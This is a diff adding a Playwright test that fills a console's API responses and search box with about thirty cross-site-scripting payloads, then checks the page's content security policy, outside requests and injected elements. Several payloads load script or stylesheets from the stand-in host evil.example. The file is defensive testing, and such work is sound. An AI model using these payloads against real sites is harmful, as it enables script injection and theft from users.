@@ -1,0 +1,154 @@
+import type { Browser, Page, Route } from 'playwright-core'
+import { consoleScreens, isSettled } from '../scripts/console-screens.ts'
+
+const run = 'window.ranHostile=1'
+
+/** Texts that run something where a page takes one for more than a text. */
+export const payloads: readonly string[] = [
+  `<script>${run}</script>`,
+  `<script src="https://evil.example/x.js"></script>`,
+  `<img src=x onerror=${run}>`,
+  `<svg onload=${run}>`,
+  `<svg><script>${run}</script></svg>`,
+  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
+  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${run}'/>#x">`,
+  `<body onload=${run}>`,
+  `<iframe src="javascript:parent.${run}"></iframe>`,
+  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
+  `<object data="data:text/html,<script>${run}</script>"></object>`,
+  `<embed src="javascript:${run}">`,
+  `<a href="javascript:${run}">click</a>`,
+  `<form action="javascript:${run}"><button>x</button></form>`,
+  `<button formaction="javascript:${run}">x</button>`,
+  `<input autofocus onfocus=${run}>`,
+  `<details open ontoggle=${run}>`,
+  `<video><source onerror=${run}></video>`,
+  `<audio src=x onerror=${run}>`,
+  `<marquee onstart=${run}>`,
+  `<math><mtext><style><img src=x onerror=${run}></style></mtext></math>`,
+  `<style>@import 'https://evil.example/x.css';</style>`,
+  `<link rel=stylesheet href="https://evil.example/x.css">`,
+  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
+  `<base href="https://evil.example/">`,
+  `<template><script>${run}</script></template><noscript><img src=x onerror=${run}>`,
+  `"><img src=x onerror=${run}>`,
+  `' onmouseover='${run}' x='`,
+  `javascript:${run}`,
+  `{@html '<img src=x onerror=${run}>'}\${${run}}{{constructor.constructor('${run}')()}}`,
+]
+
+/** Members of answers that people, modules and nodes fill in. Ids, numbers and states have formats of their own. */
+const texts = new Set([
+  ...[
+    'name',
+    'title',
+    'tagline',
+    'description',
+    'body',
+    'reason',
+    'message',
+    'label',
+    'summary',
+    'error',
+    'detail',
+  ],
+  ...[
+    'developer_name',
+    'display_name',
+    'symbol',
+    'network',
+    'protocol',
+    'region',
+    'platform',
+    'arch',
+    'function',
+  ],
+  ...[
+    'os_version',
+    'nodectl_version',
+    'halted',
+    'status_reason',
+    'output',
+    'icon',
+    'logo',
+    'explorer',
+    'links',
+  ],
+  ...[
+    'screenshots',
+    'tags',
+    'website',
+    'support',
+    'docs',
+    'video',
+    'category',
+    'functions',
+    'action',
+    'closed_reason',
+  ],
+])
+
+/** An answer whose texts are payloads. */
+function hostile(value: unknown, next: () => string, isText = false): unknown {
+  if (typeof value === 'string') return isText ? next() : value
+  if (Array.isArray(value)) return value.map((one) => hostile(one, next, isText))
+  if (typeof value !== 'object' || value === null) return value
+  return Object.fromEntries(
+    Object.entries(value).map(([name, member]) => [name, hostile(member, next, texts.has(name))]),
+  )
+}
+
+/**
+ * Opens every screen on a hub that answers with payloads where people, modules and nodes write texts.
+ *
+ * @returns What ran, was asked of another host, or was refused by the policy only.
+ */
+export async function findInjections(browser: Browser, origin: string): Promise<string[]> {
+  const faults: string[] = []
+  const { headers } = await fetch(origin, { headers: { Accept: 'text/html' } })
+  const policy = headers.get('content-security-policy') ?? ''
+  for (const rule of ["frame-ancestors 'none'", "require-trusted-types-for 'script'", "script-src 'self'"])
+    if (!policy.includes(rule)) faults.push(`the policy lacks ${rule}`)
+
+  const page = await browser.newPage({ reducedMotion: 'reduce' })
+  page.on('dialog', (dialog) => faults.push(`${page.url()}: a dialog says ${dialog.message()}`))
+  page.on('request', (request) => {
+    if (!request.url().startsWith(`${origin}/`)) faults.push(`${page.url()} asks ${request.url()}`)
+  })
+  page.on('console', (message) => {
+    if (/Content Security Policy|TrustedHTML|TrustedScript/.test(message.text()))
+      faults.push(`${page.url()}: ${message.text()}`)
+  })
+  let shown = 0
+  const answerHostile = async (route: Route) => {
+    if (route.request().resourceType() === 'document') return route.continue()
+    const answer = await route.fetch()
+    if (!answer.headers()['content-type']?.includes('json')) return route.fulfill({ response: answer })
+    const next = () => payloads[shown++ % payloads.length]!
+    await route.fulfill({ response: answer, json: hostile(await answer.json(), next) })
+  }
+  // A screen that was left waits for no answer.
+  await page.route(/\/v1\/(?!events)|\/$/, (route) => answerHostile(route).catch(() => {}))
+  for (const path of Object.values(await consoleScreens(origin))) {
+    await page.goto(origin + path)
+    await page.waitForFunction(isSettled)
+    await lookForInjections(page, faults)
+  }
+  for (const payload of payloads) {
+    await page.goto(`${origin}/search?q=${encodeURIComponent(payload)}`)
+    await page.getByText(payload, { exact: true }).first().waitFor()
+    await lookForInjections(page, faults)
+  }
+  if (shown < payloads.length) faults.push(`only ${shown} texts were shown`)
+  await page.close()
+  return [...new Set(faults)]
+}
+
+async function lookForInjections(page: Page, faults: string[]): Promise<void> {
+  const found = (await page.evaluate(`[
+    window.ranHostile ? 'a script ran' : '',
+    ...[...document.querySelectorAll('#app :is(script:not([src^="/_app/"]), iframe, object, embed, base, meta, link, style), [href^="javascript:" i], [action^="javascript:" i]')].map((one) => one.outerHTML.slice(0, 120)),
+    ...[...document.querySelectorAll('*')].flatMap((one) => [...one.attributes].filter(({ name }) => name.startsWith('on')).map(({ name }) => one.tagName + ' has ' + name)),
+  ].filter(Boolean)`)) as string[]
+  for (const one of found) faults.push(`${page.url()}: ${one}`)
+}
